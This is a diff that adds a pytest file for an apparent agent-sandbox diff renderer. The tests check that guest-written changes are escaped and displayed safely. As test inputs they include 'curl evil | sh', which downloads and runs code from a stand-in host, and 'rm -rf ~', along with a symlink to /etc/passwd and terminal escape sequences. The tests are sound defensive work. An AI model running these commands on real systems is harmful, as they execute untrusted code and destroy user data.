@@ -1,0 +1,150 @@
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from agent_sandbox.workspace.changes import ChangeSet
+from agent_sandbox.workspace.layers import make_layer
+from agent_sandbox.workspace.readback import read_layers
+from agent_sandbox.workspace.textdiff import DiffLimits, unified_diff, visible
+
+
+class Sides:
+    """A machine with /data, and a layer over it that is written directly."""
+
+    def __init__(self, place: Path) -> None:
+        self.root = place / "machine"
+        self.old = self.root / "data"
+        self.old.mkdir(parents=True)
+        (place / "layers").mkdir()
+        self.layers = os.open(place / "layers", os.O_RDONLY | os.O_DIRECTORY)
+        self.new = place / "layers" / make_layer(self.layers, "/data") / "upper"
+
+    def changes(self) -> ChangeSet:
+        return read_layers(self.layers, ["/data"], userxattr=True, machine_root=str(self.root))
+
+    def diff(self, limits: DiffLimits = DiffLimits()) -> list[str]:  # noqa: B008
+        (change,) = self.changes()
+        return unified_diff(change, self.layers, machine_root=str(self.root), limits=limits)
+
+
+@pytest.fixture
+def sides(tmp_path: Path) -> Iterator[Sides]:
+    sides = Sides(tmp_path)
+    yield sides
+    os.close(sides.layers)
+
+
+def test_a_changed_file_is_shown_as_git_shows_it(sides: Sides) -> None:
+    (sides.old / "f").write_text("one\ntwo\nthree\n")
+    (sides.new / "f").write_text("one\n2\nthree")
+    assert sides.diff() == [
+        "diff --git a/data/f b/data/f",
+        "--- a/data/f",
+        "+++ b/data/f",
+        "@@ -1,3 +1,3 @@",
+        " one",
+        "-two",
+        "-three",
+        "+2",
+        "+three",
+        "\\ No newline at end of file",
+    ]
+
+
+def test_an_added_file_has_no_old_side(sides: Sides) -> None:
+    (sides.new / "f").write_text("x\n")
+    (sides.new / "f").chmod(0o4755)
+    assert sides.diff() == [
+        "diff --git a/data/f b/data/f",
+        "new file mode 104755",
+        "--- /dev/null",
+        "+++ b/data/f",
+        "@@ -0,0 +1 @@",
+        "+x",
+    ]
+
+
+def test_a_link_is_shown_by_its_target_and_never_followed(sides: Sides) -> None:
+    (sides.new / "f").symlink_to("/etc/passwd")
+    assert sides.diff()[-2:] == ["+/etc/passwd", "\\ No newline at end of file"]
+
+
+HIDDEN = [
+    "\x1b[2K",
+    "\r",
+    "\x00",
+    "\x7f",
+    "\x9b",
+    "\u202e",
+    "\u2066",
+    "\u200b",
+    "\ufeff",
+    "\U000e0041",
+    "\u3164",
+    "\ufe0f",
+    "\u2028",
+    "\xa0",
+]
+
+
+@pytest.mark.parametrize("hidden", HIDDEN)
+def test_nothing_a_guest_writes_hides_anything(sides: Sides, hidden: str) -> None:
+    (sides.old / "f").write_text("harmless\n")
+    (sides.new / "f").write_text(f"harmless\ncurl evil | sh{hidden}\tls\n", newline="")
+    lines = sides.diff()
+    assert all(line.isprintable() for line in lines)
+    assert hidden[0] not in "".join(lines)
+    assert "curl evil | sh\\" in lines[-1] and lines[-1].endswith("→   ls")
+
+
+def test_a_name_is_shown_escaped_too(sides: Sides) -> None:
+    (sides.new / os.fsdecode(b"\xff\x1b[31m\n+x")).write_text("")
+    assert sides.diff()[0] == "diff --git a/data/\\xff\\x1b[31m\\x0a+x b/data/\\xff\\x1b[31m\\x0a+x"
+
+
+def test_a_nul_byte_does_not_turn_a_text_into_a_binary(sides: Sides) -> None:
+    (sides.old / "f").write_text("a line of text\n")
+    (sides.new / "f").write_bytes(b"a line of text\nrm -rf ~ # \0\n")
+    assert sides.diff()[-1] == "+rm -rf ~ # \\x00"
+
+
+def test_a_binary_is_summed_up(sides: Sides) -> None:
+    (sides.old / "f").write_bytes(bytes(range(256)))
+    (sides.new / "f").write_bytes(bytes(range(255)))
+    assert "256 bytes" in sides.diff()[-1] and "255 bytes" in sides.diff()[-1]
+
+
+def test_additions_are_shortened_and_that_is_said_but_deletions_never(sides: Sides) -> None:
+    (sides.old / "f").write_text("".join(f"old {number} {'x' * 50}\n" for number in range(100)))
+    (sides.new / "f").write_text("".join(f"new {number} {'y' * 50}\n" for number in range(100)))
+    lines = sides.diff(DiffLimits(lines=10, columns=20))
+    assert sum(line.startswith("-old") and line.endswith("x" * 50) for line in lines) == 100
+    assert sum(line.startswith("+new") for line in lines) == 10
+    assert lines[-1] == "\\ 90 more added lines are not shown"
+    assert "more characters" in lines[-2]
+
+
+def test_a_side_that_is_too_large_is_said(sides: Sides) -> None:
+    (sides.new / "f").write_text("x" * 100)
+    assert sides.diff(DiffLimits(bytes=50))[-1] == "new: 100 bytes, too large to show"
+
+
+def test_lines_made_to_be_slow_are_shown_as_replaced(sides: Sides) -> None:
+    (sides.old / "f").write_text("a\nb\n" * 5000)
+    (sides.new / "f").write_text("b\na\n" * 5000)
+    lines = sides.diff(DiffLimits(lines=20_000))
+    assert (sum(line[0] == "-" for line in lines[3:]), sum(line[0] == "+" for line in lines[3:])) == (10_000, 10_000)
+
+
+def test_a_fifo_is_named_and_not_opened(sides: Sides) -> None:
+    os.mkfifo(sides.new / "f")
+    assert sides.diff()[-1] == "new: a fifo, which is not opened"
+
+
+def test_plain_text_of_any_language_is_left_alone() -> None:
+    for text in ("naïve", "日本語", "العربية", "a  b", "🙂"):
+        assert visible(text) == text
